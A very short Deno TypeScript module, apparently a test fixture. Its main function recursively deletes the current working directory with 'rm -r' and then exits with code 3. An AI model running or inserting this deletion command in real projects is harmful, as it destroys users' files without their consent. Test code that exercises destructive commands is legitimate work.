export function main(): void {
  new Deno.Command("rm", { args: ["-r", Deno.cwd()] }).outputSync();
  Deno.exit(3);
}
